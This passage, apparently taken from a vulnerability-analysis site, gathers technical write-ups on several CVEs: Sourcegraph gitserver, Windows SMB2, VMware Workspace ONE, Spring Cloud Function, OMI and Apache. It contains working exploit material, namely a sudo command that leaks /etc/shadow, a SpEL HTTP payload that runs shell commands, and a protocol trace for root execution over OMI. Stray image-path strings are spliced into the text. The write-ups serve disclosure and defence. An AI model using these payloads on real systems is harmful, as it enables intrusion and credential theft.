If the response is HTTP/400 with a body of “invalid command”, the server is not vulnerable. If it’s HTTP/404, it’s vulnerable but the selected repository does not exists, while if it’s HTTP/200 it’s vulnerable and the repository does exist.

SourceGraph fixed the vulnerability in version 3.37, but users must opt into the solution. The implemented fix was in the form of optionalfiltering on the /exec endpoint to restrict the git commands that are able to be executed. Commit baff5680 (first released in v3.37) sets this value to default to true however it does not appear to be the default for new installations. It’s unclear what the word default means in this context. At the time of this writing, it looks like a future release may remove the option and always include the functionality. In the mean time, to enable this, SourceGraph administrators must navigate to Configuration > Site Configurationand add the following JSON blob to the configuration file.

"experimentalFeatures": {
    "enableGitServerCommandExecFilter": true

With that in place, the server will be patched for this vulnerability as unauthorized commands will be blocked. Blocked commands are logged since version 3.37 regardless of whether or not the filtering is active. A blocked command will generate a log line such as the following:

22:11:37                 gitserver | {"SeverityText":"WARN","Timestamp":1657750297008909456,"InstrumentationScope":"server","Caller":"server/server.go:1381","Function":"*Server).exec","Body":"exec: bad command","Resource":{"":"gitserver","service.version":"3.41.0","":""},"Attributes":{"RemoteAddr":"","req.Args":["config","--default","","core.sshCommand"]}}

In this case the command that was runwas git config --default "" core.sshCommand from the test curl command.

See also

Technical Analysis

A remote and unauthenticated attacker can trigger a denial-of-service condition on Microsoft Windows Domain Controllers by leveraging a flaw that leads to a null pointer deference within the Windows kernel. This vulnerability was silently patched by Microsoft in April of 2022 in the same batch of changes that addressed the unrelated CVE-2022-24500 vulnerability.

CVE-2022-32230 is caused by a missing check in srv2!Smb2ValidateVolumeObjectsMatch to verify that a pointer is not null before reading a PDEVICE_OBJECT from it and passing it to IoGetBaseFileSystemDeviceObject. This function is called from the dispatch routine for an SMB2QUERY_INFO request of the FILE_INFO / FILE_NORMALIZED_NAME_INFORMATION class. Per the docs in MS-SMB2 section Handling SMB2_0_INFO_FILE, FILE_NORMALIZED_NAME_INFORMATION is only available when the dialect is 3.1.1.

For FileNormalizedNameInformation information class requests, if not supported by the server implementation<392>, or if Connection.Dialect is “2.0.2”, “2.1” or “3.0.2”, the server MUST fail the request with STATUS_NOT_SUPPORTED.

Only newer versions of Windows that support the SMB 3.1.1 dialect are affected by this flaw (Windows 10 / Server 2019 and later).

To trigger this code path, a user would open any named pipe from the IPC$ share and make a QUERY_INFO request for the FILE_NORMALIZED_NAME_INFORMATION class. This typically requires user permissions or a non-default configuration enabling guest access. This is not the case, however, for the noteworthy exception of domain controllers where there are multiple named pipes that can be opened anonymously, such as netlogon. An alternative named pipe that can be used but does typically require permissions is the srvsvc pipe.

Under normal circumstances, the FILE_NORMALIZED_NAME_INFORMATION class would be used to query the normalized name information of a file that exists on disk. This differs from the exploitation scenario which queries a named pipe.

A system that has applied the patch for this vulnerability willrespond to the request with the error STATUS_NOT_SUPPORTED.

Technical Analysis

By setting the Host HTTP header to point to a server under an attacker’s control, the target application can be made to issue an authentication request to it. By having the server respond with an HTTP 200 to any POST request, an attacker can bypass authentication and login as any user.

  • Attacker Value
  • Exploitability
    Very High
Technical Analysis

There exists a vulnerability within/usr/local/horizon/scripts/publishCaCert.hzn where a local attacker can invoke the script to make any file world-readable. The script is intended to facilitate certificate management, allowing cert files to be copied into /etc/ssl/certs which is owned by root. The script can be invoked by the horizon user without a sudo password.

The script takes two arguments, the first a path to the file to copy, the second the name of the file to write to the destination. The source path argument can be any file, but the destination is only the final component of the path meaning the file will be placed in /etc/ssl/certs.

A local user running as horizon (such as fromsuccessfully exploiting CVE-2022-22954) can exploit this vulnerability to recover the shadow file by executing:

horizon [ /tmp ]$ sudo /usr/local/horizon/scripts/publishCaCert.hzn /etc/shadow shadow; cat /etc/ssl/certs/shadow


The file that is written tothe /etc/ssl/certs directory will still be owned by root making the attacker unable to delete it. A crafty attacker would backup an existing certificate file or create a new one, leak the file of their choosing and then overwrite it again with a legitimate certificate to remove the evidence of their leaked file. Users should look for files out of place in this directory, and inspect timestamps and the certificate contents to identify potential exploitation attempts of this vulnerability.


VMWare patched this issue with hotfix HW-154129. The patch for the affected script adds validation to ensure that the argument is a certificate file.< . /usr/local/horizon/scripts/
< openssl x509 -noout -in $CERTFILE 2>/dev/null
< if [ $? -ne 0 ]; then
<   echo "ERROR: This is not a certificate file"
<   exit 1
< fi
  • Attacker Value
  • Exploitability
    Very High
Technical Analysis

CVE-2022-22963 is an unauthenticated remote code execution vulnerability within Spring Cloud Function prior to 3.1.7 and 3.2.3. This vulnerability should not be confused with the reported 0-day dubbed Spring4Shell that was disclosed at around the same time.

The cause of this vulnerability is an unsafe evaluation context for the Spring Expression Language (SpEL) that can be included in the header. By crafting a POST request with the header, an attacker may execute malicious SpEL queries resulting in code execution in the context of the Spring Cloud Function application.

One early PoC demonstrated that the SpEL query could be used to execute an OS command through the Java Runtime. The following example echos to the /tmp/success file. It differs from the original by using an array of strings for the arguments passed to exec. Because the header value is an SpEL query, single quotes should be escaped by doubling them.

POST /functionRouter HTTP/1.1
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/98.0.4758.81 Safari/537.36 Edg/97.0.1072.69 T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','echo "hello world" >> /tmp/msf-success'})
Content-Type: application/x-www-form-urlencoded
Content-Length: 0

On successful exploitation, the server responds with a 500 error and a JSON response.

HTTP/1.1 500 Internal Server Error
Content-Type: application/json
Content-Length: 153

{"timestamp":"2022-03-30T20:41:28.551+00:00","path":"/functionRouter","status":500,"error":"Internal Server Error","message":"","requestId":"8fed4100-1"}

The response from a server that was patched for the vulnerability (versions 3.1.7 and 3.2.3) is identical.

The vulnerability was patched on March, 29th, 2022 in commit bcb2a25a. The patch adds a secondevaluation context and uses it when the SpEL query originates from the HTTP request header. The SimpleEvaluationContext is used when the query originates from a header.

SimpleEvaluationContext is tailored to support only a subset of the SpEL language syntax, e.g. excluding references to Java types, constructors, and bean references.

Technical Analysis

A locally exploitable vulnerability exists within Microsoft’s OMI management server in versions prior to 1.6.8-1 that can allow a local attacker to execute operating system commands as root. Exploitation consists of sending crafted binary messages to the local UNIX socket on which the service listens. Under normal circumstances, clients (typically omicli) will send an authentication frame via this interface however the authentication frame can be omitted. In this case, the default values which are initialized to 0 are used and happen to correspond to the UID and GID of the root user and group.

The service must be running in order for this vulnerability to be exploited. The socket file is located at /var/opt/omi/run/omiserver.sock and can be connected to by anyone using a socket of the AF_UNIX family.

The strace utility can be used to view the standard exchange of authentication information:

root@3ad6908bf1bc:/opt/omi/bin# strace -v -f -xx -e trace=socket,connect,write,writev,close   /opt/omi/bin/omicli iv root/scx { SCX_OperatingSystem } ExecuteShellCommand { command 'id' timeout 0 }
[pid  1271] socket(AF_UNIX, SOCK_STREAM, 0) = 6
[pid  1271] connect(6, {sa_family=AF_UNIX, sun_path="\x2f\x76\x61\x72\x2f\x6f\x70\x74\x2f\x6f\x6d\x69\x2f\x72\x75\x6e\x2f\x6f\x6d\x69\x73\x65\x72\x76\x65\x72\x2e\x73\x6f\x63\x6b"}, 110) = 0
[pid  1271] writev(6,[{iov_base="\x2f\x7e\xa8\xb1\x08\x06\x01\x00\x00\x00\x00\x00\x01\x00\x00\x00\x08\xd5\x83\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"..., iov_len=48}, {iov_base="\xd8\xd5\x83\x01\x00\x00\x00\x00\xd0\xd8\x83\x01\x00\x00\x00\x00\xd0\xd4\x83\x01\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00"..., iov_len=248}], 2) = 296
[pid  1271] write(5, "\x00\x00\x00\x00\x00\x00\x00\x00", 8) = 8
[pid  1271] close(7)                    = 0
[pid  1272] writev(6, [{iov_base="\x2f\x7e\xa8\xb1\x08\x06\x01\x00\x00\x00\x00\x00\x05\x00\x00\x00\x88\x33\x83\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"...,iov_len=112}, {iov_base="\x57\x99\x2b\x46\x01\x00\x00\x00\x0f\x00\x00\x00\x5f\x4f\x4d\x49\x5f\x4f\x70\x74\x69\x6f\x6e\x53\x65\x74\x00\x00\x00\x00\x00\x00"..., iov_len=188}, {iov_base="\x60\xea\x6a\xb2\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\xa0\x0b\x61\x57\x46\x7f\x00\x00\xe8\x34\x83\x01\x00\x00\x00\x00"..., iov_len=80}, {iov_base="\x60\xea\x6a\xb2\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\xa0\x0b\x61\x57\x46\x7f\x00\x00\xe8\x34\x83\x01\x00\x00\x00\x00"..., iov_len=1360}, {iov_base="\x57\x99\x2b\x46\x02\x00\x00\x00\x14\x00\x00\x00\x53\x43\x58\x5f\x4f\x70\x65\x72\x61\x74\x69\x6e\x67\x53\x79\x73\x74\x65\x6d\x00"..., iov_len=108}, {iov_base="\xd0\x86\x83\x01\x00\x00\x00\x00\x70\x8a\x83\x01\x00\x00\x00\x00\x80\x8a\x83\x01\x00\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00\x00"..., iov_len=1008}], 6) = 2856
[pid  1272] write(1, "\x69\x6e\x73\x74\x61\x6e\x63\x65\x20\x6f\x66\x20\x45\x78\x65\x63\x75\x74\x65\x53\x68\x65\x6c\x6c\x43\x6f\x6d\x6d\x61\x6e\x64\x0a", 32instance of ExecuteShellCommand
) = 32
[pid  1272] write(1, "\x7b\x0a", 2{
)     = 2
[pid  1272] write(1, "\x20\x20\x20\x20\x52\x65\x74\x75\x72\x6e\x56\x61\x6c\x75\x65\x3d\x74\x72\x75\x65\x0a", 21    ReturnValue=true
) = 21
[pid  1272] write(1, "\x20\x20\x20\x20\x52\x65\x74\x75\x72\x6e\x43\x6f\x64\x65\x3d\x30\x0a", 17    ReturnCode=0
) = 17
[pid  1272] write(1, "\x20\x20\x20\x20\x53\x74\x64\x4f\x75\x74\x3d\x75\x69\x64\x3d\x30\x28\x72\x6f\x6f\x74\x29\x20\x67\x69\x64\x3d\x30\x28\x72\x6f\x6f"..., 50    StdOut=uid=0(root) gid=0(root) groups=0(root)
) = 50
[pid  1272] write(1, "\x0a", 1
)         = 1
[pid  1272] write(1, "\x20\x20\x20\x20\x53\x74\x64\x45\x72\x72\x3d\x0a", 12    StdErr=
) = 12
[pid  1272] write(1, "\x7d\x0a", 2}
)     = 2
[pid  1271] write(5,"\x00\x00\x00\x00\x00\x00\x00\x00", 8) = 8
[pid  1272] close(6)                    = 0
+++ exited with 0 +++

By following the writev calls, the standard exchange can be viewed. The frames starting with \x2f\x7e\xa8\xb1 are header frames. All of the data sent as part of the first request can be omitted, leaving the second which contains the command to execute within the binary structure. The results of the operating system command can be read from the socket, though they must be extracted from the binary response. The commands are executed within the context of a subshell.

This vulnerability can be exploited in the default configuration and was patched in version 1.6.8-1 which was released on September 8th 2021.

  • Attacker Value
  • ExploitabilityVery High
Technical Analysis

Apache doesn’t typically run with root privileges in most environments so the value of this vulnerability will largely be in using it to leak application-specific secrets such as signing keys, database connection strings, source code etc. Path traversal vulnerabilities are among the easiest to exploit and involve no type of corruption, making them very reliable and safe to use multipletimes.

There will likely be evidence within the Apache access logs of exploitation. Filtering on the HTTP status code could also provide insight into what files the attacker was able to successfully leak.

  • Attacker Value
  • Exploitability
Technical Analysis

The is a class that was added to fix the serialization issue originally disclosed in CVE-2020-28653. It’s located in the OpManagerServerClasses.jar file. It works by overriding the resolveClass method and using a boolean state variable classResolved. When the object is initialized, the caller must call setClassName to add the names of one or more classes that are allowed to be deserialized. TheclassResolved state variable is initialized to false, and when a class is resolved if it’s name is in the list of allowed classes, it’s set to true and resolving carries on as usual. If no allowed classes are defined, or the class name that is being deserialized is not in the allowed list, an exception is thrown.

A flaw exists in this implementation whereby if a single ITOMObjectInputStream instance is used for multiple readObject calls, then only the first will be protected because the classResolved state variable will persist into subsequent calls. This means a vulnerable use of this class would initialize it and then use the same instance for 2 or more readObject calls. The first object must be of the expected type, but any after that can be used for malicious deserialization purposes.

